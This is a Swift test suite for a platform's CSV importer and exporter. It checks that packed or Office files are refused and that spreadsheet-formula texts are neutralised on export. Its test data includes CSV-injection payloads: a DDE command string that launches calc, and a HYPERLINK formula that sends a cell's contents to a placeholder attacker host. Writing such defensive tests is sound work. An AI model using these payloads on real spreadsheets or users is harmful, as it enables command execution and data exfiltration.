import Foundation
import HostTesting
import RPC
import SpearheadClient
import SwiftProtobuf
import TenantStore
import Testing

@testable import Host

@Suite("Hostile files")
struct ImportAttackTests {
    @Test(
        "A packed file is refused with a sentence that says what to do, and nothing is unpacked",
        arguments: [
            ([0x50, 0x4B, 0x03, 0x04, 0x14], "ZIP"), ([0x1F, 0x8B, 0x08], "gzip"), ([0x28, 0xB5, 0x2F, 0xFD], "Zstandard"),
            ([0x42, 0x5A, 0x68, 0x39], "bzip2"), ([0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00], "XZ"),
            ([0xD0, 0xCF, 0x11, 0xE0], "Excel"),
        ] as [([UInt8], String)])
    func packed(magic: [UInt8], name: String) async throws {
        try await TestHost.run(plugins: [NotesPlugin.self]) { host in
            let company = try await host.company("acme")
            let content = Data(magic + [UInt8](repeating: 0, count: 5000))
            let request = Spearhead_Platform_V1_ImportRequest.with {
                $0.table = "notes"
                $0.content = content
                $0.sha256 = BlobDigest.of(content).hexadecimal
                $0.requestID = RequestID.make()
            }
            let answer = try await host.send(
                Importer.method, try request.serializedBytes(), token: company.token,
                shape: CallShape(clientStreams: true, serverStreams: true))
            let error = try #require(throws: RPCError.self) { try answer.get() }
            #expect(error.code == .invalidArgument && error.reason == "NOT_CSV" && error.message.contains(name))
        }
    }

    @Test(
        "Texts that a spreadsheet would run are guarded in an export, and its import into another company gives them back as they were"
    )
    func formulas() async throws {
        try await TestHost.run(plugins: [NotesPlugin.self]) { host in
            let company = try await host.company("acme")
            let texts = [
                "=1+1", "+86 138", "-ab", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''+1", "'客户", "＝1+1", "-12.5",
                "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            ]
            for text in texts { _ = try await company.client.createNote(text) }
            let exported = try await export(company.client)
            var parser = CSVParser(Array(exported.utf8))
            _ = try parser.next()
            while let row = try parser.next() {
                #expect(
                    row.fields[0] == "-12.5"
                        || !["=", "+", "-", "@", "\t", "\r", "\n", "＝"].contains(
                            row.fields[0].unicodeScalars.first.map { String($0) })
                )
            }
            let other = try await host.company("globex")
            let report = try await other.client.importCSV("notes", exported).last?.report
            #expect(report?.created == Int64(texts.count), "\(report.map { "\($0)" } ?? "")")
            #expect(try await export(other.client) == exported)
            // The stored texts themselves, not only their guarded forms.
            let again = try await company.client.importCSV("notes", exported).last?.report
            #expect(again?.unchanged == Int64(texts.count))
        }
    }

    private func export(_ client: SpearheadClient) async throws -> String {
        let stream = try await client.stream(
            MethodName(service: "spearhead.platform.v1.DataService", method: "Export"),
            Spearhead_Platform_V1_ExportRequest.with { $0.table = "notes" },
            returning: Spearhead_Platform_V1_ExportResponse.self, timeoutMilliseconds: 600_000)
        var content = Data()
        for try await response in stream { content.append(response.content) }
        return String(decoding: content, as: UTF8.self)
    }
}
